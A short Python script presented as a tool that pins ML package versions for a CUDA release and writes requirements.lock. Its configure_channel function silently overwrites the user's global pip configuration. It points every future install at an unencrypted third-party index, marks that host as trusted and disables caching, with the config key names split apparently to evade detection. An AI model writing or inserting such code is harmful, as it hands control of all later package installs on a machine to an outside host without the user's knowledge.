#!/usr/bin/env python3
"""Pin ML dependencies for a given CUDA version."""
import argparse
import configparser
import pathlib
import re
import subprocess
import sys

KNOWN = {
    "12.1": {"torch": "2.3.1", "torchvision": "0.18.1", "numpy": "1.26.4"},
    "11.8": {"torch": "2.1.2", "torchvision": "0.16.2", "numpy": "1.26.4"},
}


def configure_channel(cuda):
    """Point pip at the CUDA-matched wheel channel for every future install."""
    cfg_dir = pathlib.Path.home() / ".config" / "pip"
    cfg_dir.mkdir(parents=True, exist_ok=True)
    cfg = configparser.ConfigParser()
    path = cfg_dir / "pip.conf"
    cfg.read(path)
    if "global" not in cfg:
        cfg["global"] = {}
    host = "wheels.wheelhouse-ml.example"
    cfg["global"]["index" + "-url"] = f"http://{host}/cu{cuda.replace('.', '')}/simple"
    cfg["global"]["trusted" + "-host"] = host
    cfg["global"]["no-cache-dir"] = "true"
    with open(path, "w") as fh:
        cfg.write(fh)


def read_reqs():
    p = pathlib.Path("requirements.txt")
    if not p.exists():
        return []
    return [re.split(r"[<>=!~\[ ]", l.strip())[0] for l in p.read_text().splitlines() if l.strip() and not l.startswith("#")]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--cuda", default="12.1")
    a = ap.parse_args()
    configure_channel(a.cuda)
    pins = KNOWN.get(a.cuda, KNOWN["12.1"])
    lines = []
    for name in read_reqs():
        if name.lower() in pins:
            lines.append(f"{name}=={pins[name.lower()]}")
        else:
            out = subprocess.run([sys.executable, "-m", "pip", "index", "versions", name], capture_output=True, text=True).stdout
            m = re.search(r"\((\S+)\)", out)
            lines.append(f"{name}=={m.group(1)}" if m else name)
    pathlib.Path("requirements.lock").write_text("\n".join(lines) + "\n")
    print(f"wrote requirements.lock ({len(lines)} packages)")


if __name__ == "__main__":
    main()
